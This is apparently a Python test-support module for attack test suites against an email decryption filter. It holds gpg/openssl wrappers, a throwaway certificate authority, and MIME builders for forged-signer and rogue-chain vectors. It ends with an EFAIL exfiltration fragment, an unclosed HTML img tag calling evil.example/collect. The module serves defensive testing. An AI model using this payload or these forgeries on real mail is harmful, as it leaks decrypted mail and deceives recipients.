"""The outsider's tools of the attack suites (test_attacks, test_attacks_round2): ``ciphermilter decrypt`` as a
subprocess over a store built with the CLI, gpg in a throwaway home, a PKI made with ``cryptography``, and the
MIME builders of the vectors. How each vector is made is told in test_attacks' docstring; the session fixtures
(the keys, the store, signed and captured messages) are in support/attack_fixtures.py.
"""

from __future__ import annotations

import base64
import datetime
import email
import json
import shutil
import subprocess
import sys
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

CLI = Path(sys.executable).parent / "ciphermilter"
KEYS = Path("/work/shared/corpus/keys")
CORPUS = KEYS.parent
PREFIX = "x-ciphermail-info-"

BOB = "bob@corp-pub.example"          # S/MIME reader (pub-bob)
ERIN = "erin@corp-pub.example"        # another internal user with an S/MIME key (pub-erin-p256)
BOB_PGP = "bob.pgp@corp-pub.example"  # OpenPGP reader (pub-pgp-bob-rsa3072)
GUS = "gus.sq@corp-pub.example"       # another internal user with an OpenPGP key (pub-pgp-gus-sq-cv25519)
SIGRID = "sigrid@sender-pub.example"  # admin-imported OpenPGP signer (made here)
ALICE = "alice@sender-pub.example"    # S/MIME signer of the corpus case smime-sig-detached-chain
CEO = "ceo@corp-pub.example"          # the forger's user ID (family 5) / the chain attacks' leaf (family 7)
EVE = "eve@evil.example"


# ---------------------------------------------------------------------------- tools

def run(args, stdin: bytes | None = None, env=None) -> bytes:
    done = subprocess.run(args, input=stdin, capture_output=True, env=env)
    if done.returncode != 0:
        raise RuntimeError(f"{args!r} failed: {done.stderr.decode(errors='replace')}")
    return done.stdout


class Gpg:
    """gpg in a throwaway home: every call batch, loopback pinentry, no passphrase, trust always."""

    def __init__(self, home: Path):
        home.mkdir(mode=0o700, parents=True)
        self.home = home

    def __call__(self, *args, stdin: bytes | None = None) -> bytes:
        return run(["gpg", "--batch", "--quiet", "--homedir", str(self.home), "--pinentry-mode", "loopback",
                    "--passphrase", "", "--trust-model", "always", *args], stdin)

    def gen_signing_key(self, uid: str) -> None:
        self("--quick-gen-key", uid, "ed25519", "sign", "never")


def crlf(text: str) -> bytes:
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode()


def b64_lines(data: bytes) -> bytes:
    encoded = base64.b64encode(data)
    return b"".join(encoded[i:i + 76] + b"\r\n" for i in range(0, len(encoded), 76))


def multipart(subtype: str, parts: list[bytes], boundary: str, params: str = "") -> bytes:
    """A multipart entity (headers + body) from complete part entities (each headers CRLF CRLF body)."""
    head = f"Content-Type: multipart/{subtype}; boundary=\"{boundary}\"{params}\r\n\r\n".encode()
    body = b"This is a multi-part message in MIME format.\r\n"
    for part in parts:
        body += f"--{boundary}\r\n".encode() + part + b"\r\n"
    return head + body + f"--{boundary}--\r\n".encode()


def message(entity: bytes, from_lines=(f"From: Alice Sender <{ALICE}>",), to: str = BOB,
            extra: tuple[str, ...] = ()) -> bytes:
    """An RFC 5322 message whose root entity is ``entity`` (its own Content-* headers first)."""
    head = [*from_lines, f"To: <{to}>", "Subject: attack vector", "Date: Thu, 03 Dec 2026 06:00:00 +0000",
            "Message-ID: <attack@evil.example>", *extra, "MIME-Version: 1.0"]
    return "\r\n".join(head).encode() + b"\r\n" + entity


def text_part(text: str, ctype: str | None = "text/plain; charset=us-ascii") -> bytes:
    head = f"Content-Type: {ctype}\r\n" if ctype else ""
    return (head + "Content-Transfer-Encoding: 7bit\r\n").encode() + b"\r\n" + crlf(text)


def split(msg: bytes) -> tuple[bytes, bytes]:
    head, sep, body = msg.partition(b"\r\n\r\n")
    assert sep, "no header/body separator"
    return head, body


def header_fields(head: bytes) -> list[tuple[str, str]]:
    fields: list[list[str]] = []
    for line in head.decode("latin-1").split("\r\n"):
        if line[:1] in (" ", "\t") and fields:
            fields[-1][1] += line
        elif ":" in line:
            name, _, value = line.partition(":")
            fields.append([name.strip(), value.strip()])
    return [(n, v) for n, v in fields]


# ---------------------------------------------------------------------------- the store and the CLI

class Result:
    def __init__(self, sent: bytes, out: bytes, explain: dict):
        self.sent, self.out, self.explain = sent, out, explain
        self.head, self.body = split(out)
        self.info = {n.lower()[len(PREFIX):]: v for n, v in header_fields(self.head) if n.lower().startswith(PREFIX)}

    def flag(self, name: str) -> str | None:
        return self.info.get(name.lower())

    @property
    def untouched(self) -> bool:
        return self.body == split(self.sent)[1]

    def shows(self, marker: str) -> bool:
        """Whether the plaintext's marker line is in the output, as sent or inside a decoded part."""
        decoded = [part.get_payload(decode=True) or b"" for part in email.message_from_bytes(self.out).walk()]
        return any(marker.encode() in data for data in [self.body, *decoded])

    def __repr__(self):  # what a failing assertion prints
        return f"<info headers {self.info!r}>"


class Store:
    def __init__(self, path: Path):
        self.path = path

    def cli(self, *args) -> bytes:
        return run([str(CLI), "--store", str(self.path), *args])

    def decrypt(self, msg: bytes, *rcpts: str) -> Result:
        args = [str(CLI), "--store", str(self.path), "decrypt", "--explain"]
        for rcpt in rcpts:
            args += ["--rcpt", rcpt]
        done = subprocess.run([*args, "-"], input=msg, capture_output=True)
        assert done.returncode == 0, done.stderr.decode(errors="replace")
        return Result(msg, done.stdout, explain_json(done.stderr))

    def keys(self) -> list:
        return json.loads(self.cli("keys", "list", "--json"))

    def copy(self, into: Path) -> "Store":
        into.mkdir(parents=True, exist_ok=True)
        target = into / "store.db"
        shutil.copy(self.path, target)
        shutil.copy(str(self.path) + ".key", str(target) + ".key")
        return Store(target)


def explain_json(stderr: bytes) -> dict:
    text = stderr.decode(errors="replace")
    start = text.find("{")
    try:
        return json.loads(text[start:]) if start >= 0 else {}
    except ValueError:
        return {}


class Pki:
    """Family 7: a root the administrator trusts and chains below it, made with `cryptography`."""

    def __init__(self, work: Path):
        self.dir = work / "pki"
        self.dir.mkdir()
        self.root_key = ec.generate_private_key(ec.SECP256R1())
        self.root = self._cert("Attack Test Root", self.root_key, self.root_key, None, ca=True, path_len=None)
        (self.dir / "root.pem").write_bytes(self.root.public_bytes(serialization.Encoding.PEM))

    def _cert(self, cn, key, issuer_key, issuer, *, ca, path_len=None, email=None, extra=()):
        now = datetime.datetime.now(datetime.timezone.utc)
        name = x509.Name([x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Attack Test"),
                          x509.NameAttribute(NameOID.COMMON_NAME, cn)])
        builder = (x509.CertificateBuilder().subject_name(name)
                   .issuer_name(issuer.subject if issuer else name)
                   .public_key(key.public_key()).serial_number(x509.random_serial_number())
                   .not_valid_before(now - datetime.timedelta(days=1))
                   .not_valid_after(now + datetime.timedelta(days=365))
                   .add_extension(x509.BasicConstraints(ca=ca, path_length=path_len if ca else None), critical=True)
                   .add_extension(x509.SubjectKeyIdentifier.from_public_key(key.public_key()), critical=False)
                   .add_extension(x509.AuthorityKeyIdentifier.from_issuer_public_key(issuer_key.public_key()),
                                  critical=False))
        if ca:
            builder = builder.add_extension(x509.KeyUsage(
                digital_signature=True, content_commitment=False, key_encipherment=False, data_encipherment=False,
                key_agreement=False, key_cert_sign=True, crl_sign=True, encipher_only=False, decipher_only=False),
                critical=True)
        else:
            builder = (builder.add_extension(x509.KeyUsage(
                digital_signature=True, content_commitment=True, key_encipherment=False, data_encipherment=False,
                key_agreement=False, key_cert_sign=False, crl_sign=False, encipher_only=False, decipher_only=False),
                critical=True)
                .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.EMAIL_PROTECTION]), critical=False)
                .add_extension(x509.SubjectAlternativeName([x509.RFC822Name(email)]), critical=False))
        for ext, critical in extra:
            builder = builder.add_extension(ext, critical=critical)
        return builder.sign(issuer_key, hashes.SHA256())

    def ca(self, cn, issuer_key, issuer, **kw):
        key = ec.generate_private_key(ec.SECP256R1())
        return key, self._cert(cn, key, issuer_key, issuer, ca=True, **kw)

    def chain(self, label: str, cas: list[tuple], leaf_extra=()) -> tuple[Path, Path, Path]:
        """(leaf cert, leaf key, chain file) for a leaf ceo@corp-pub.example below ``cas`` (top first)."""
        issuer_key, issuer = self.root_key, self.root
        for key, cert in cas:
            issuer_key, issuer = key, cert
        key = ec.generate_private_key(ec.SECP256R1())
        leaf = self._cert(f"CEO ({label})", key, issuer_key, issuer, ca=False, email=CEO, extra=leaf_extra)
        base = self.dir / label
        (base.with_suffix(".leaf.pem")).write_bytes(leaf.public_bytes(serialization.Encoding.PEM))
        (base.with_suffix(".key.pem")).write_bytes(key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
        (base.with_suffix(".chain.pem")).write_bytes(
            b"".join(c.public_bytes(serialization.Encoding.PEM) for _, c in cas))
        return base.with_suffix(".leaf.pem"), base.with_suffix(".key.pem"), base.with_suffix(".chain.pem")


# ---------------------------------------------------------------------------- builders

INNER = "Content-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: 7bit\r\n\r\n{marker}\r\n"


def smime_encrypted(work: Path, plaintext: bytes, cert: str = "smime/pub-bob.cert.pem") -> bytes:
    """The DER EnvelopedData of ``plaintext`` (a MIME entity) for ``cert``."""
    src = work / "smime-in.mime"
    src.write_bytes(plaintext)
    return run(["openssl", "cms", "-encrypt", "-binary", "-aes256", "-outform", "DER", "-in", str(src),
                str(KEYS / cert)])


def p7m_entity(der: bytes, smime_type: str = "enveloped-data") -> bytes:
    return (f"Content-Type: application/pkcs7-mime; smime-type={smime_type}; name=\"smime.p7m\"\r\n"
            "Content-Transfer-Encoding: base64\r\n"
            "Content-Disposition: attachment; filename=\"smime.p7m\"\r\n\r\n").encode() + b64_lines(der)


def pgpmime_encrypted_entity(armored: bytes, boundary: str = "enc-boundary-1") -> bytes:
    control = b"Content-Type: application/pgp-encrypted\r\nContent-Description: PGP/MIME version\r\n\r\nVersion: 1\r\n"
    data = (b"Content-Type: application/octet-stream; name=\"encrypted.asc\"\r\n"
            b"Content-Disposition: inline; filename=\"encrypted.asc\"\r\n\r\n" + armored.replace(b"\r\n", b"\n")
            .replace(b"\n", b"\r\n"))
    return multipart("encrypted", [control, data], boundary, '; protocol="application/pgp-encrypted"')


def pgp_binary_entity(binary: bytes) -> bytes:
    return (b"Content-Type: application/octet-stream; name=\"secret.txt.pgp\"\r\n"
            b"Content-Transfer-Encoding: base64\r\n"
            b"Content-Disposition: attachment; filename=\"secret.txt.pgp\"\r\n\r\n" + b64_lines(binary))


def pgp_encrypt(gpg: Gpg, plaintext: bytes, *opts: str, armor: bool = True) -> bytes:
    return gpg(*(["--armor"] if armor else []), *opts, "-r", BOB_PGP, "--encrypt", stdin=plaintext)


def pgpmime_signed(gpg: Gpg, entity: bytes, signer: str, boundary: str = "sig-boundary-1") -> bytes:
    """RFC 3156 multipart/signed over ``entity`` (its canonical CRLF bytes, as signed)."""
    signature = gpg("--armor", "--detach-sign", "--digest-algo", "SHA256", "-u", signer, stdin=entity)
    sig_part = (b"Content-Type: application/pgp-signature; name=\"signature.asc\"\r\n"
                b"Content-Disposition: attachment; filename=\"signature.asc\"\r\n\r\n"
                + signature.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))
    return multipart("signed", [entity, sig_part], boundary,
                     '; micalg=pgp-sha256; protocol="application/pgp-signature"')


def corpus_smime_signed_entity() -> bytes:
    """The multipart/signed entity of the corpus case smime-sig-detached-chain (alice, valid, trusted)."""
    raw = (CORPUS / "smime-sig-detached-chain/message.eml").read_bytes()
    head, body = split(raw)
    ctype = [f"{n}: {v}" for n, v in header_fields(head) if n.lower() == "content-type"]
    return ctype[0].encode() + b"\r\n\r\n" + body


def smime_signed(work: Path, leaf: Path, key: Path, chain: Path, content: bytes, opaque: bool = False) -> bytes:
    """openssl cms -sign over ``content``: a multipart/signed entity, or the DER of an opaque SignedData."""
    src = work / "sign-in.mime"
    src.write_bytes(content)
    args = ["openssl", "cms", "-sign", "-binary", "-md", "sha256", "-in", str(src), "-signer", str(leaf),
            "-inkey", str(key)]
    if chain.read_bytes():
        args += ["-certfile", str(chain)]
    if opaque:
        return run([*args, "-nodetach", "-outform", "DER"])
    der = run([*args, "-outform", "DER"])
    sig_part = (b"Content-Type: application/pkcs7-signature; name=\"smime.p7s\"\r\n"
                b"Content-Transfer-Encoding: base64\r\n"
                b"Content-Disposition: attachment; filename=\"smime.p7s\"\r\n\r\n" + b64_lines(der))
    return multipart("signed", [content, sig_part], "smime-sig-boundary",
                     '; protocol="application/pkcs7-signature"; micalg="sha-256"')


# ---------------------------------------------------------------------------- EFAIL (family 2)

CAPTURED_READER = {"pgpmime": BOB_PGP, "pgpbinary": BOB_PGP, "smime": BOB}
MIXED = {"pgpmime": "PGP-Mixed-Content", "pgpbinary": "PGP-Mixed-Content", "smime": "SMIME-Mixed-Content"}
EXFIL_HTML = '<html><body><img src="http://evil.example/collect?'
